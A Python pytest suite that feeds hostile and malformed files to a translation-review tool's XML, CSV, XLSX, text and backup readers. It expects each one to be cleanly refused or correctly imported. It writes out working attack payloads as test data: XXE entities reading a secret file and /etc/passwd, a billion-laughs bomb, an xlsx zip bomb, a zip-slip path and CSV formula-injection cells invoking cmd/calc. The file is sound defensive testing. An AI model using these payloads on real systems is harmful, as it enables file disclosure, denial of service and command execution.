"""Hostile and malformed input for every reader (issue 9, part 1): one table row per reader × attack.

Each row states the only acceptable outcomes: ``ERROR`` — an :class:`~review_app.errors.InputError` whose
message names the file (and, where given, a line/unit/encoding fragment) — or ``OK`` — a correct import,
checked by a row-specific predicate. A crash (any other exception) or a hang (the per-case alarm) fails the
row. Attacks follow the OWASP XXE Prevention Cheat Sheet (file/URL entities, billion laughs, parameter
entities / external DTD) and the OWASP "CSV Injection" page (formula cells).

The last test imports hostile files through ``review-app candidates import`` and compares every table's row
count before and after: a refused file must leave the project exactly as it was.
"""

from __future__ import annotations

import codecs
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from review_app.errors import InputError
from tests.readers import READERS, deadline, xlsx_bytes

TIMEOUT = 30  # seconds per case; a reader that takes longer is treated as hanging
JA = "日本語の原文です。"
EN = "English target."
SECRET = "TOP-SECRET-8c1f"


XML_READERS = ("xliff12", "xliff2", "tmx", "tbx")
BILINGUAL_XML = ("xliff12", "xliff2", "tmx")


# -- documents -------------------------------------------------------------------------------------------------


def xml_unit(reader: str, uid: str, source: str, target: str = EN) -> str:
    if reader == "xliff12":
        return f'<trans-unit id="{uid}"><source>{source}</source><target>{target}</target></trans-unit>'
    if reader == "xliff2":
        return f'<unit id="{uid}"><segment><source>{source}</source><target>{target}</target></segment></unit>'
    if reader == "tmx":
        return (
            f'<tu tuid="{uid}"><tuv xml:lang="ja"><seg>{source}</seg></tuv>'
            f'<tuv xml:lang="en"><seg>{target}</seg></tuv></tu>'
        )
    assert reader == "tbx"
    return (
        f'<termEntry id="{uid}"><langSet xml:lang="ja"><tig><term>{source}</term></tig></langSet>'
        f'<langSet xml:lang="en"><tig><term>{target}</term></tig></langSet></termEntry>'
    )


def xml_doc(
    reader: str, units: str, *, prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n', doctype: str = ""
) -> str:
    if reader == "xliff12":
        body = (
            '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">'
            '<file original="a.txt" source-language="ja" target-language="en" datatype="plaintext">'
            f"<body>{units}</body></file></xliff>"
        )
    elif reader == "xliff2":
        body = (
            '<xliff version="2.0" xmlns="urn:oasis:names:tc:xliff:document:2.0" srcLang="ja" trgLang="en">'
            f'<file id="f1">{units}</file></xliff>'
        )
    elif reader == "tmx":
        body = (
            '<tmx version="1.4"><header srclang="ja" datatype="plaintext" segtype="sentence" adminlang="en" '
            'creationtool="t" creationtoolversion="1" o-tmf="x"/>'
            f"<body>{units}</body></tmx>"
        )
    else:
        body = f'<martif type="TBX" xml:lang="en"><text><body>{units}</body></text></martif>'
    return prolog + doctype + body


SJIS_PROLOG = '<?xml version="1.0" encoding="Shift_JIS"?>\n'
EUC_PROLOG = '<?xml version="1.0" encoding="EUC-JP"?>\n'


def _root_name(reader: str) -> str:
    return {"xliff12": "xliff", "xliff2": "xliff", "tmx": "tmx", "tbx": "martif"}[reader]


def _sources(result: Any) -> list[str]:
    """The source strings a reader produced (bilingual units, glossary source terms, or document segments)."""
    if isinstance(result, dict):  # source → target pairs
        return list(result)
    if hasattr(result, "units"):
        return [u.source for u in result.units]
    if hasattr(result, "concepts"):
        return [t.text for c in result.concepts for t in c.terms if t.lang.startswith("ja")]
    segs = result.segments
    return [s.text for s in (segs() if callable(segs) else segs)]


def _targets(result: Any) -> list[str]:
    if isinstance(result, dict):
        return list(result.values())
    if hasattr(result, "units"):
        return [u.target or "" for u in result.units]
    if hasattr(result, "concepts"):
        return [t.text for c in result.concepts for t in c.terms if t.lang.startswith("en")]
    return []


def _zip_bomb_xlsx(inflated_mb: int = 210) -> bytes:
    """A valid-looking .xlsx whose sheet XML inflates to more than ``inflated_mb`` MB (a few hundred KB zipped)."""
    base = xlsx_bytes([["id", "source", "target"], ["1", JA, EN]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, sep, tail = data.partition(b"</sheetData>")
                filler = b"<!--" + b" " * (inflated_mb * 1024 * 1024) + b"-->"
                data = head + filler + sep + tail
            dst.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


def _corrupt_deflate_xlsx(rows: list[list[str]]) -> bytes:
    """A .xlsx whose sheet's deflate stream starts with an invalid block type (zlib.error when inflated)."""
    data = bytearray(xlsx_bytes(rows))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start : start + 4] = b"\xff\xff\xff\xff"  # BFINAL=1, BTYPE=11 (reserved): "invalid block type"
    return bytes(data)


# -- the matrix ------------------------------------------------------------------------------------------------

ERROR, OK = "error", "ok"


@dataclass(frozen=True)
class Case:
    reader: str
    attack: str
    build: Callable[[Path], bytes]
    """Builds the file content; receives the tmp folder (for the XXE secret file)."""
    expect: str
    mention: tuple[str, ...] = ()
    """Fragments the error message must contain (case-insensitive), besides the file name."""
    check: Callable[[Any], bool] | None = None
    """For OK rows: a predicate on the reader's result."""
    skip: str | None = None


def _xml_cases() -> list[Case]:
    cases: list[Case] = []
    for r in XML_READERS:
        good = xml_unit(r, "u1", JA)

        def secret_file(tmp: Path, r: str = r) -> bytes:
            (tmp / "secret.txt").write_text(SECRET, encoding="utf-8")
            dt = f'<!DOCTYPE {_root_name(r)} [<!ENTITY xxe SYSTEM "file://{tmp / "secret.txt"}">]>'
            return xml_doc(r, xml_unit(r, "u1", "&xxe;"), doctype=dt).encode()

        laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))  # 10**9 "lol"s
        bomb_dt = f'<!DOCTYPE {_root_name(r)} [<!ENTITY l0 "lol">{laughs}]>'
        many = "".join(xml_unit(r, f"u{i}", f"文{i}。", f"s{i}.") for i in range(100_000))
        big = "字" * 3_400_000  # ~10 MB of UTF-8 on one line
        trunc = xml_doc(r, good * 3).encode()
        cases += [
            Case(r, "xxe_file", secret_file, ERROR, ("entit",)),
            Case(
                r,
                "xxe_url",
                lambda _t, r=r, good=good: xml_doc(
                    r,
                    xml_unit(r, "u1", "&xxe;"),
                    doctype=f'<!DOCTYPE {_root_name(r)} [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/x">]>',
                ).encode(),
                ERROR,
                ("entit",),
            ),
            Case(
                r,
                "billion_laughs",
                lambda _t, r=r, dt=bomb_dt: xml_doc(r, xml_unit(r, "u1", "&l9;"), doctype=dt).encode(),
                ERROR,
                ("entit",),
            ),
            Case(
                r,
                "external_dtd_param_entity",
                lambda _t, r=r, good=good: xml_doc(
                    r,
                    good,
                    doctype=f'<!DOCTYPE {_root_name(r)} [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/e.dtd"> %ext;]>',
                ).encode(),
                ERROR,
                ("entit",),
            ),
            # A DOCTYPE naming an external DTD without using it (TMX files reference tmx14.dtd) is accepted
            # and never fetched (the port is closed; fetching would fail or hang, not import).
            Case(
                r,
                "external_dtd_unused",
                lambda _t, r=r, good=good: xml_doc(
                    r, good, doctype=f'<!DOCTYPE {_root_name(r)} SYSTEM "http://127.0.0.1:9/x.dtd">'
                ).encode(),
                OK,
                check=lambda res: JA in _sources(res),
            ),
            Case(
                r,
                "undeclared_entity",
                lambda _t, r=r, good=good: xml_doc(r, xml_unit(r, "u1", "a&nbsp;b")).encode(),
                ERROR,
                ("entit",),
            ),
            Case(
                r,
                "invalid_utf8",
                lambda _t, r=r, good=good: (
                    xml_doc(r, good).encode().replace(JA.encode(), b"\xff\xfe\xc3(" + JA.encode())
                ),
                ERROR,
            ),
            Case(
                r,
                "shift_jis_declared",
                lambda _t, r=r, good=good: xml_doc(r, good, prolog=SJIS_PROLOG).encode("shift_jis"),
                OK,
                check=lambda res: _sources(res) == [JA],
            ),
            Case(
                r,
                "euc_jp_declared",
                lambda _t, r=r, good=good: xml_doc(r, good, prolog=EUC_PROLOG).encode("euc_jp"),
                OK,
                check=lambda res: _sources(res) == [JA],
            ),
            # Shift_JIS bytes under a UTF-8 declaration: must be refused, never imported as mojibake.
            Case(r, "shift_jis_undeclared", lambda _t, r=r, good=good: xml_doc(r, good).encode("shift_jis"), ERROR),
            Case(r, "euc_jp_undeclared", lambda _t, r=r, good=good: xml_doc(r, good).encode("euc_jp"), ERROR),
            Case(
                r,
                "utf16_bom",
                lambda _t, r=r, good=good: (
                    codecs.BOM_UTF16_LE
                    + xml_doc(r, good, prolog='<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16-le")
                ),
                OK,
                check=lambda res: _sources(res) == [JA],
            ),
            # Without a BOM, XML 1.0 Appendix F autodetection still recognises "<\0?\0" as UTF-16LE; either a
            # correct import or a clear refusal is acceptable, mojibake is not.
            Case(
                r,
                "utf16_no_bom",
                lambda _t, r=r, good=good: xml_doc(r, good, prolog='<?xml version="1.0" encoding="UTF-16"?>\n').encode(
                    "utf-16-le"
                ),
                "either",
                check=lambda res: _sources(res) == [JA],
            ),
            Case(r, "nul_byte", lambda _t, r=r, good=good: xml_doc(r, xml_unit(r, "u1", "a\x00b")).encode(), ERROR),
            Case(r, "control_char", lambda _t, r=r, good=good: xml_doc(r, xml_unit(r, "u1", "a\x01b")).encode(), ERROR),
            Case(
                r,
                "control_char_reference",
                lambda _t, r=r, good=good: xml_doc(r, xml_unit(r, "u1", "a&#1;b")).encode(),
                ERROR,
            ),
            # lxml without huge_tree refuses text nodes over 10,000,000 bytes; just under that is imported.
            Case(
                r,
                "10mb_single_line",
                lambda _t, r=r, big=big: xml_doc(r, xml_unit(r, "u1", big), prolog="").encode(),
                "either",
                check=lambda res, big=big: _sources(res) == [big],
            ),
            Case(
                r,
                "100k_units",
                lambda _t, r=r, many=many: xml_doc(r, many).encode(),
                OK,
                check=lambda res: len(_sources(res)) == 100_000 and _sources(res)[-1] == "文99999。",
            ),
            Case(r, "truncated", lambda _t, trunc=trunc: trunc[: len(trunc) * 2 // 3], ERROR, ("line",)),
            Case(r, "empty", lambda _t: b"", ERROR),
            Case(r, "wrong_root", lambda _t: b'<?xml version="1.0"?><html><body>x</body></html>', ERROR, ("html",)),
            Case(
                r,
                "duplicate_ids",
                lambda _t, r=r, good=good: xml_doc(r, xml_unit(r, "dup", JA) + xml_unit(r, "dup", "別の文。")).encode(),
                ERROR,
                ("dup",),
            ),
        ]
    return cases


def _text_cases() -> list[Case]:
    text = "見出し\n\n" + JA + "二文目です。\n"
    return [
        Case("source", "plain_utf8", lambda _t: text.encode(), OK, check=lambda d: JA in _sources(d)),
        Case("source", "utf8_bom", lambda _t: codecs.BOM_UTF8 + text.encode(), OK, check=lambda d: JA in _sources(d)),
        Case(
            "source",
            "invalid_utf8",
            lambda _t: text.encode() + b"\n\xff\xfe broken\n",
            ERROR,
            ("line 5", "utf-8"),
        ),
        Case("source", "shift_jis", lambda _t: (text * 20).encode("shift_jis"), ERROR, ("iconv",)),
        Case("source", "euc_jp", lambda _t: (text * 20).encode("euc_jp"), ERROR, ("iconv",)),
        Case(
            "source",
            "utf16_bom",
            lambda _t: text.encode("utf-16"),
            OK,
            check=lambda d: JA in _sources(d),
        ),
        Case("source", "utf16_no_bom", lambda _t: text.encode("utf-16-le"), ERROR),
        Case("source", "nul_byte", lambda _t: (text + "a\x00b\n").encode(), ERROR, ("nul", "line 4")),
        # Control characters other than NUL are text (they are kept and flagged by QA, never crash).
        Case(
            "source",
            "control_chars",
            lambda _t: ("前\x01後。\x1b[31m赤\n").encode(),
            OK,
            check=lambda d: "".join(_sources(d)).startswith("前\x01後"),
        ),
        Case(
            "source",
            "10mb_single_line",
            lambda _t: ("あ" * 3_500_000 + "。").encode(),
            OK,
            check=lambda d: sum(len(s) for s in _sources(d)) == 3_500_001,
        ),
        Case(
            "source",
            "100k_lines",
            lambda _t: "".join(f"文{i}。\n\n" for i in range(100_000)).encode(),
            OK,
            check=lambda d: len(_sources(d)) == 100_000,
        ),
        Case("source", "empty", lambda _t: b"", "either", check=lambda d: _sources(d) == []),
    ]


def _csv_cases() -> list[Case]:
    cases: list[Case] = []
    header = {"csv": "id,source,target\n", "gloss_csv": ""}
    for r in ("csv", "gloss_csv"):
        h = header[r]
        first = 2 if h else 1  # the line of the first data row
        cases += [
            Case(
                r,
                "formula_cells",
                lambda _t, h=h: (
                    (h + '=HYPERLINK("http://x/?"&A1;"x"),@SUM(1+1)\n+cmd|\' /C calc\'!A0,-2+3\n').encode()
                    if not h
                    else (h + 'f1,"=HYPERLINK(""http://x"")",@SUM(1)\nf2,+cmd|calc!A0,-2+3\n').encode()
                ),
                OK,
                # formulas are imported as the literal text, never evaluated
                check=lambda res: any(s.startswith(("=HYPERLINK", "+cmd")) for s in _sources(res)),
            ),
            Case(
                r,
                "invalid_utf8",
                lambda _t, h=h: (h + "1,ok,ok\n").encode() + b"2,\xff\xfe,x\n",
                ERROR,
                (f"line {first + 1}, column 3", "utf-8"),
            ),
            Case(
                r,
                "shift_jis",
                lambda _t, h=h: (h + f"1,{JA},{EN}\n").encode("shift_jis"),
                ERROR,
                (f"line {first},", "iconv"),
            ),
            Case(r, "euc_jp", lambda _t, h=h: (h + f"1,{JA},{EN}\n").encode("euc_jp"), ERROR, (f"line {first},",)),
            Case(
                r,
                "utf16_bom",
                lambda _t, h=h: (h + (f"1,{JA},{EN}\n" if h else f"{JA},{EN}\n")).encode("utf-16"),
                OK,
                check=lambda res: JA in _sources(res),
            ),
            # Refused with the line by both CSV readers, like the source-text reader (never imported, never
            # silently dropped).
            Case(
                r,
                "nul_byte",
                lambda _t, h=h: (h + "x,y\n" + ("1,a\x00b,c\n" if h else "a\x00b,c\n")).encode(),
                ERROR,
                ("nul", f"line {first + 1}"),
            ),
            Case(r, "empty", lambda _t: b"", ERROR),
            Case(
                r,
                "unbalanced_quote",
                lambda _t, h=h: (h + ('1,"open,x\n2,b,c\n' if h else '"open,x\nb,c\n')).encode(),
                "either",
                check=lambda res: len(_sources(res)) >= 1,
            ),
            Case(
                r,
                "100k_rows",
                lambda _t, h=h: (
                    h + "".join((f"{i},文{i}。,s{i}\n" if h else f"文{i}。,s{i}\n") for i in range(100_000))
                ).encode(),
                OK,
                check=lambda res: len(_sources(res)) == 100_000,
            ),
            # A cell over the csv module's field limit (131 072 characters): refused with the line and the fix.
            Case(
                r,
                "10mb_single_line",
                lambda _t, h=h: (h + ("1," if h else "") + "あ" * 3_500_000 + ",x\n").encode(),
                ERROR,
                (f"line {first}:", "131,072", "split"),
            ),
            # An unclosed quote swallows the rest of the file into one cell: the message names the row it
            # started on, not the line where the field limit was hit.
            Case(
                r,
                "unclosed_quote_swallows_the_file",
                lambda _t, h=h: (
                    h
                    + ("1,ok,ok\n" if h else "ok,ok\n")
                    + ('2,"open,x\n' if h else '"open,x\n')
                    + "".join(f"{i},文{i}。,s{i}\n" for i in range(3, 20_000))
                ).encode(),
                ERROR,
                (f"line {first + 1}:", "still open at line", "quote"),
            ),
        ]
    cases.append(
        Case(
            "csv",
            "duplicate_ids",
            lambda _t: f"id,source,target\ndup,{JA},a\ndup,別,b\n".encode(),
            ERROR,
            ("dup", "line 3"),
        )
    )
    cases.append(Case("gloss_csv", "duplicate_source", lambda _t: f"{JA},a\n{JA},b\n".encode(), ERROR, ("line 2",)))
    # Line numbers are those of the file: blank lines and line breaks inside quoted cells count.
    cases.append(
        Case(
            "gloss_csv",
            "duplicate_source_after_blank_and_multiline",
            lambda _t: f'{JA},"two\nlines"\n\n\n別,b\n{JA},c\n'.encode(),
            ERROR,
            ("line 6", "on line 1"),
        )
    )
    cases.append(
        Case(
            "gloss_csv",
            "rich_bad_flag_after_blank_line",
            lambda _t: b"concept_id,lang,term,case_sensitive\n\nx,en,\"a\nb\",yes\ny,en,z,maybe\n",
            ERROR,
            ("line 5", "maybe"),
        )
    )
    cases.append(
        Case(
            "csv",
            "only_empty_cells",
            lambda _t: b",\n \t,\n",
            ERROR,
            ("no rows with text",),
        )
    )
    cases.append(Case("csv", "ragged_rows", lambda _t: b"id,source,target\n1,a,b\n2,a,b,c,d\n", ERROR, ("line 3",)))
    cases += _csv_quoting_cases()
    return cases


def _csv_quoting_cases() -> list[Case]:
    """A stray quote that swallows rows (issue 19): the column count stays right, so only the evidence that the
    cell's lines read as rows of the file tells it from a legal multi-line cell (RFC 4180)."""
    cases: list[Case] = []
    swallowing = {
        # the file: 1 unit for 3 rows, exit 0, on main
        "csv": 'id,source,target\n1,こんにちは,"hello\n2,さようなら,goodbye\n3,ありがとう,thanks"\n',
        "gloss_csv": 'こんにちは,"hello\nさようなら,goodbye\nありがとう,thanks"\nトランプ,Trump\n',
        "gloss_pairs": 'こんにちは,"hello\nさようなら,goodbye\nありがとう,thanks"\nトランプ,Trump\n',
    }
    first = {"csv": 2, "gloss_csv": 1, "gloss_pairs": 1}
    for r, text in swallowing.items():
        cases.append(Case(r, "stray_quote_swallows_rows", lambda _t, text=text: text.encode(), ERROR,
                          (f"line {first[r]}:", f"lines {first[r] + 1}-{first[r] + 2}", "quote")))
    # the same in the middle of a longer file, and with a quote opened in the first column
    cases.append(Case("csv", "stray_quote_swallows_rows_mid_file", lambda _t: (
        "id,source,target,notes\n" + "".join(f"{i},文{i}。,s{i},\n" for i in range(1, 6))
        + '6,文6。,s6,"oops\n' + "".join(f"{i},文{i}。,s{i},\n" for i in range(7, 10)) + '10,文10。,s10,x"\n'
    ).encode(), ERROR, ("line 7:", "lines 8-11")))
    cases.append(Case("csv", "stray_quote_in_first_column", lambda _t: (
        '"文1。,s1\n文2。,s2\n文3。",s3\n文4。,s4\n').encode(), ERROR, ("line 1:",)))
    # legal multi-line cells are imported whole: notes with commas, a multi-paragraph target, a Japanese
    # note, blank lines inside a cell
    cases.append(Case("csv", "legal_multiline_notes", lambda _t: (
        'id,source,target,notes\n1,文1。,"Para one, with a comma.\nPara two, also, with two.",'
        '"note, line one\nline two, still the note"\n2,文2。,s2,"a\n\nb"\n3,文3。,s3,"注記、一行目\n二行目、です"\n'
    ).encode(), OK, check=lambda res: len(_sources(res)) == 3 and "Para two" in _targets(res)[0]))
    cases.append(Case("csv", "legal_multiline_two_columns", lambda _t: (
        '文1。,"Hello,\nworld, again"\n文2。,s2\n'
    ).encode(), OK, check=lambda res: len(_sources(res)) == 2))
    cases.append(Case("gloss_csv", "legal_multiline_rich_note", lambda _t: (
        "concept_id,lang,term,term_note\nc1,ja,鷹潭,\"wrong, see:\nc2,en,x\"\nc1,en,Eagle Pass,\n"
    ).encode(), OK, check=lambda res: "鷹潭" in _sources(res)))
    return cases


def _restore_cases() -> list[Case]:
    """Backup archives through ``review-app restore`` (the full corpus is tests/test_restore_tampered.py)."""
    from tests.readers import backup_bytes, zip_members, zip_of

    def edited(changes: dict[str, bytes]) -> Callable[[Path], bytes]:
        return lambda _t: zip_of({**zip_members(backup_bytes()), **changes})

    import json as _json

    def manifest(**changes: Any) -> bytes:
        data = _json.loads(zip_members(backup_bytes())["manifest.json"])
        data.update(changes)
        return _json.dumps(data).encode()

    xxe = (b'<?xml version="1.0"?><!DOCTYPE martif [<!ENTITY x SYSTEM "file:///etc/passwd">]><martif type="TBX">'
           b"<text><body><termEntry id='c'><langSet xml:lang='ja'><tig><term>&x;</term></tig></langSet>"
           b"</termEntry></body></text></martif>")
    return [
        Case("restore", "genuine", lambda _t: backup_bytes(), OK, check=lambda res: len(_sources(res)) == 3),
        Case("restore", "not_a_zip", lambda _t: b"PK\x03\x04 nope", ERROR, ("not a zip",)),
        Case("restore", "truncated", lambda _t: backup_bytes()[:700], ERROR),
        Case("restore", "zip_slip", edited({"../../evil.db": b"x"}), ERROR, ("unexpected member",)),
        Case("restore", "manifest_list", edited({"manifest.json": b"[1,2]"}), ERROR, ("json object",)),
        Case("restore", "xxe_glossary", lambda _t: zip_of({**zip_members(backup_bytes()), "manifest.json": manifest(
            glossary="g.tbx"), "glossary/g.tbx": xxe}), ERROR, ("unexpected member",)),
        Case("restore", "xxe_glossary_named", lambda _t: zip_of({
            **{k: v for k, v in zip_members(backup_bytes()).items() if not k.startswith("glossary/")},
            "manifest.json": manifest(glossary="g.tbx"), "glossary/g.tbx": xxe}), ERROR, ("glossary",)),
        Case("restore", "glossary_zip_bomb", lambda _t: zip_of({
            **zip_members(backup_bytes()), "glossary/g.csv": bytes(65 * 1024 * 1024)}), ERROR, ("limit",)),
        Case("restore", "garbage_db", edited({"review.db": b"\x00" * 4096}), ERROR, ("not an sqlite database",)),
        Case("restore", "bad_config", edited({"review-app.toml": b"name = [\n"}), ERROR, ("toml",)),
    ]


def _xlsx_cases() -> list[Case]:
    cases: list[Case] = []
    for r in ("xlsx", "gloss_xlsx"):
        header = ["id", "source", "target"] if r == "xlsx" else []
        rows = ([header] if header else []) + ([["1", JA, EN]] if header else [[JA, EN]])
        cases += [
            Case(r, "zip_bomb", lambda _t: _zip_bomb_xlsx(), ERROR, ("zip bomb",)),
            Case(r, "not_a_zip", lambda _t: b"PK\x03\x04 truncated", ERROR),
            Case(
                r,
                "corrupt_deflate",
                lambda _t, rows=rows: _corrupt_deflate_xlsx(rows),
                ERROR,
            ),
            Case(r, "text_file", lambda _t: "見出し\n".encode(), ERROR),
            Case(
                r,
                "formula_cell",
                lambda _t, rows=rows, r=r: xlsx_bytes(
                    [*rows, ["2", "=1+1", "x"]] if r == "xlsx" else [*rows, ["=1+1", "x"]]
                ),
                # openpyxl returns a formula's cached value (none here, as no spreadsheet computed it), so the
                # cell reads as empty: the bilingual reader imports an empty source, the glossary refuses the
                # row by line. The formula is never evaluated and never stored as a formula.
                "either",
                ("line 2",),
                check=lambda res: _sources(res)[-1] in ("=1+1", ""),
            ),
            Case(
                r,
                "truncated_zip",
                lambda _t, rows=rows: xlsx_bytes(rows)[:-200],
                ERROR,
            ),
        ]
    return cases


CASES = _xml_cases() + _text_cases() + _csv_cases() + _xlsx_cases() + _restore_cases()


@pytest.mark.parametrize("case", CASES, ids=[f"{c.reader}-{c.attack}" for c in CASES])
def test_hostile_input(case: Case, tmp_path: Path) -> None:
    if case.skip:
        pytest.skip(case.skip)
    ext, reader = READERS[case.reader]
    path = tmp_path / f"hostile-{case.attack}{ext}"
    path.write_bytes(case.build(tmp_path))
    try:
        with deadline(TIMEOUT):
            result = reader(path)
    except InputError as exc:
        assert case.expect in (ERROR, "either"), f"{case.reader}/{case.attack} refused a valid file: {exc}"
        msg = str(exc)
        assert path.name in msg, f"the message does not name the file: {msg}"
        for frag in case.mention:
            assert frag.lower() in msg.lower(), f"the message lacks {frag!r}: {msg}"
        assert SECRET not in msg
        return
    assert case.expect in (OK, "either"), f"{case.reader}/{case.attack} was accepted: {str(result)[:300]}"
    assert case.check is not None and case.check(result), f"wrong import: {str(result)[:300]}"
    assert SECRET not in "".join(_sources(result) + _targets(result))


def test_zip_bomb_is_really_a_bomb() -> None:
    """The skipped zip-bomb rows are real: a small file whose sheet inflates to more than 200 MB."""
    data = _zip_bomb_xlsx()
    assert len(data) < 2_000_000
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
        assert info.file_size > 200 * 1024 * 1024
        assert info.compress_size < 2_000_000


def test_encoding_messages_name_the_encoding(tmp_path: Path) -> None:
    from review_app.textio import assumed_encoding, read_text

    text = ("東京都の人口は約千四百万人です。" * 40 + "\n") * 5
    for enc, names in (("shift_jis", ("shift_jis", "cp932")), ("euc_jp", ("euc_jp", "euc-jp"))):
        p = tmp_path / f"{enc}.txt"
        p.write_bytes(text.encode(enc))
        with pytest.raises(InputError) as exc, assumed_encoding(None):  # a command that offers --encoding
            read_text(p)
        msg = str(exc.value).lower()
        assert any(n in msg for n in names), msg
        assert "--encoding" in msg and str(p).lower() in msg
        with pytest.raises(InputError) as exc:  # outside such a command: only the iconv fix
            read_text(p)
        assert "iconv" in str(exc.value) and "--encoding" not in str(exc.value)
        assert read_text(p, encoding=enc) == text
        with assumed_encoding(enc):
            assert read_text(p) == text


def test_glossary_csv_refuses_nul_and_names_only_fixes_that_exist(tmp_path: Path) -> None:
    """The glossary reader follows the bilingual CSV policy for NUL (refused with the line, also for text given
    directly), and its encoding message offers the iconv fix but no ``--encoding`` option it does not have."""
    from review_app.glossary.csvio import parse_csv, read_csv

    with pytest.raises(InputError, match=r"terms\.csv: contains a NUL character at line 3"):
        parse_csv(f"{JA},a\n\n別\x00,b\n", "terms.csv")
    p = tmp_path / "sjis.csv"
    p.write_bytes((f"{JA},{EN}\n" * 20).encode("shift_jis"))
    with pytest.raises(InputError) as exc:
        read_csv(p)
    msg = str(exc.value)
    assert "iconv -f" in msg and "line 1" in msg and "--encoding" not in msg


# -- no partial write through the CLI --------------------------------------------------------------------------


def _row_counts(project: Path) -> dict[str, int]:
    import sqlalchemy as sa

    from review_app.project import open_project

    op = open_project(project)
    try:
        with op.db.engine.connect() as conn:
            names = sa.inspect(conn).get_table_names()
            return {n: int(conn.execute(sa.text(f'SELECT count(*) FROM "{n}"')).scalar() or 0) for n in names}
    finally:
        op.close()


CLI_ROWS = [c for c in CASES if c.reader in (*BILINGUAL_XML, "csv") and c.expect == ERROR and not c.skip]


def test_refused_imports_leave_the_project_unchanged(seed_project: Path, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from review_app.cli import main

    runner = CliRunner()
    before = _row_counts(seed_project)
    for case in CLI_ROWS:
        ext = READERS[case.reader][0]
        path = tmp_path / f"cli-{case.reader}-{case.attack}{ext}"
        path.write_bytes(case.build(tmp_path))
        with deadline(TIMEOUT):
            res = runner.invoke(
                main,
                [
                    "candidates",
                    "import",
                    str(seed_project),
                    str(path),
                    "--engine",
                    "hostile",
                    "--provenance",
                    '{"kind": "test"}',
                ],
            )
        assert res.exit_code == 2, f"{case.reader}/{case.attack}: exit {res.exit_code}: {res.output}"
        assert "Traceback" not in res.output
        assert path.name in res.output, res.output
        assert _row_counts(seed_project) == before, f"{case.reader}/{case.attack} changed the project"
    assert len(CLI_ROWS) > 40
